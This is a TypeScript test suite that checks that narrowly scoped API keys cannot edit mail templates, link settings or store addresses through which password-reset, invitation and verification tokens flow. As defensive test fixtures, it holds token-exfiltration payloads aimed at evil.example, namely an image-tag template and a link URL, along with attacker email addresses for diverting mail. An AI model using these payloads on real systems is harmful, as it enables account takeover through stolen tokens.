/**
 * Texts and settings that pass on secrets need the permission for what the secret opens: a key for mails must not get into
 * the accounts of members by a text, nor a key for settings by the address of a link. The lists come from the declarations.
 */

import { permits } from '@carton/auth';
import { storeSettingsGroups } from '@carton/core';
import { mailTemplates } from '@carton/runtime';
import { type Caller, callerOf, createTestBox } from '@carton/runtime/testing';
import t from 'tap';
import { changeStoreSchema } from '../../vendor/core/schemas.ts';

const box = await createTestBox(t);
const templates = mailTemplates.of(box.box.database);
const groups = storeSettingsGroups.of(box.box.database);
const evil = 'https://evil.example/?stolen={token}';

async function keyWith(scopes: readonly string[]): Promise<Caller> {
  const { body } = await box.staff.post('/admin/api-keys', { name: 'Narrow', kind: 'secret', scopes });
  return callerOf(box.url, { ...box.visitor().headers, authorization: `Bearer ${body.key}` });
}

/** All permissions of a box except the one, which a wildcard would include. */
const allBut = (permission: string) =>
  box.box.permissions.filter((each) => each !== permission && !(permission === '*' && each === 'api-key:write'));

/** Whether a schema or a sample names a token or an address with one. */
const namesToken = (value: unknown) => /"token"|[a-z]{3}_sample/.test(JSON.stringify(value));

t.test('every mail with a token is declared with what the token opens', async (t) => {
  const withToken = templates.filter(({ data, sample }) => namesToken(data) || namesToken(sample));
  const declared = templates.filter(({ secret }) => secret);
  t.strictSame(withToken.map(({ key }) => key).sort(), declared.map(({ key }) => key).sort());
  t.strictSame(
    declared.map(({ key, opens }) => `${key} ${opens}`).sort(),
    [
      'download.links_requested download:write',
      'member.email_change_requested member:write',
      'member.password_missing member:write',
      'member.password_reset_requested member:write',
      'member.registration_requested member:write',
      'member.verification_requested member:write',
      'order.lookup_requested order:write',
      'staff.email_change_requested *',
      'staff.invited *',
      'staff.password_reset_requested *',
    ],
    'a new one is added here',
  );
  for (const { opens = '' } of declared) t.ok(opens === '*' || box.box.permissions.includes(opens), opens);
});

for (const { key, opens = '*' } of templates.filter(({ secret }) => secret)) {
  t.test(`the texts of ${key} need ${opens}`, async (t) => {
    const path = `/admin/notification-templates/${key}`;
    const { default: parts } = (await box.staff.get(path)).body;
    const text = { ...parts, locale: 'en', html: '<img src="https://evil.example/?{{ token }}">' };
    if (key === 'download.links_requested') text.html = '<img src="https://evil.example/?{{ downloads[0].token }}">';
    for (const scopes of [['notification:read', 'notification:write'], allBut(opens)]) {
      const narrow = await keyWith(scopes);
      for (const change of [{ texts: [text] }, { enabled: false }])
        t.match(await narrow.patch(path, change), { status: 403, body: { code: 'template_reserved' } });
    }
    const { enabled, texts } = (await box.staff.get(path)).body;
    t.strictSame({ enabled, texts }, { enabled: true, texts: [] });
    const sufficient = await keyWith(opens === '*' ? ['*'] : ['notification:write', opens]);
    t.equal((await sufficient.patch(path, { texts: [{ ...parts, locale: 'en' }] })).status, 200);
  });
}

const links = groups.flatMap(({ name, properties }) =>
  Object.entries(properties)
    .filter(([, schema]) => JSON.stringify(schema).includes('{token'))
    .map(([setting, schema]) => ({ name, setting, schema, permission: String(schema['x-permission']) })),
);

t.test('every setting with the address of a link is declared with what the token opens', async (t) => {
  t.strictSame(
    links.map(({ name, setting, permission }) => `${name}.${setting} ${permission}`).sort(),
    [
      'download.linkUrl download:write',
      'member.passwordResetUrl member:write',
      'member.verificationUrl member:write',
      'order.lookupUrl order:write',
    ],
    'a new one is added here',
  );
  for (const { permission } of links) t.ok(box.box.permissions.includes(permission), permission);
  t.ok(permits(['*:read', '*:write'], 'member:write'), 'managers change them');
});

for (const { name, setting, permission } of links) {
  t.test(`the setting ${name}.${setting} needs ${permission}`, async (t) => {
    const change = (value: string | null) => ({ settings: { [name]: { [setting]: value } } });
    const shown = async () => (await box.staff.get('/admin/store')).body.settings[name][setting];
    for (const scopes of [['core:read', 'core:write'], allBut(permission)]) {
      const narrow = await keyWith(scopes);
      t.match(await narrow.patch('/admin/store', change(evil)), {
        status: 403,
        body: { code: 'forbidden', detail: new RegExp(permission) },
      });
      t.equal(await shown(), null);
      t.equal((await narrow.patch('/admin/store', change(null))).status, 200, 'the value that is set');
    }
    const ours = `https://www.example.com/${setting}?token={token}`;
    const sufficient = await keyWith(['core:write', permission]);
    t.equal((await sufficient.patch('/admin/store', change(ours))).status, 200);
    const narrow = await keyWith(['core:write']);
    for (const value of [evil, null])
      t.equal((await narrow.patch('/admin/store', { name: 'Ours', ...change(value) })).status, 403);
    t.equal(await shown(), ours);
  });
}

/** What staff change of the store: its own properties, and the settings of packages, by their paths. */
const storeProperties = changeStoreSchema(box.box.database).properties;
const changeable = [
  ...Object.entries(storeProperties).filter(([name]) => name !== 'settings'),
  ...groups.flatMap(({ name, properties }) =>
    Object.entries(properties).map(([setting, schema]) => [`settings.${name}.${setting}`, schema] as const),
  ),
];

t.test('every address of the store that mails or payments go to is declared with what goes there', async (t) => {
  const addresses = changeable.filter(([, schema]) => JSON.stringify(schema).includes('"format":"email"'));
  const reserved = changeable.filter(([, schema]) => 'x-permission' in schema);
  t.strictSame(
    reserved.map(([path, schema]) => `${path} ${schema['x-permission']}`).sort(),
    [
      'email website:read',
      'settings.download.linkUrl download:write',
      'settings.invoice.note invoice:write',
      'settings.member.passwordResetUrl member:write',
      'settings.member.verificationUrl member:write',
      'settings.notification.senderAddress *:read',
      'settings.notification.staffAddresses *:read',
      'settings.order.lookupUrl order:write',
    ],
    'a new one is added here',
  );
  for (const [path, schema] of addresses) t.ok('x-permission' in schema, `${path} is reserved`);
});

const diverting = [
  { path: ['email'], permission: 'website:read', ours: 'ours@example.com', evil: 'eve@evil.example' },
  { path: ['settings', 'invoice', 'note'], permission: 'invoice:write', ours: 'Account 1', evil: 'Account 2' },
  {
    path: ['settings', 'notification', 'senderAddress'],
    permission: '*:read',
    ours: 'ours@example.com',
    evil: 'eve@evil.example',
  },
  {
    path: ['settings', 'notification', 'staffAddresses'],
    permission: '*:read',
    ours: ['ours@example.com'],
    evil: ['ours@example.com', 'eve@evil.example'],
  },
];

for (const { path, permission, ours, evil: theirs } of diverting) {
  t.test(`${path.join('.')} of the store needs ${permission}`, async (t) => {
    const change = (value: unknown) => path.reduceRight<unknown>((inner, name) => ({ [name]: inner }), value) as object;
    const shown = async () => path.reduce((value, name) => value[name], (await box.staff.get('/admin/store')).body);
    t.equal((await box.staff.patch('/admin/store', change(ours))).status, 200, 'an owner');
    for (const scopes of [['core:read', 'core:write'], permission === '*:read' ? ['core:write'] : allBut(permission)]) {
      const narrow = await keyWith(scopes);
      t.match(await narrow.patch('/admin/store', change(theirs)), { status: 403, body: { code: 'forbidden' } });
      t.equal((await narrow.patch('/admin/store', change(ours))).status, 200, 'the value that is set');
      t.strictSame(await shown(), ours);
    }
    const sufficient = await keyWith(permission === '*:read' ? ['*'] : ['core:write', permission]);
    t.equal((await sufficient.patch('/admin/store', change(theirs))).status, 200);
  });
}
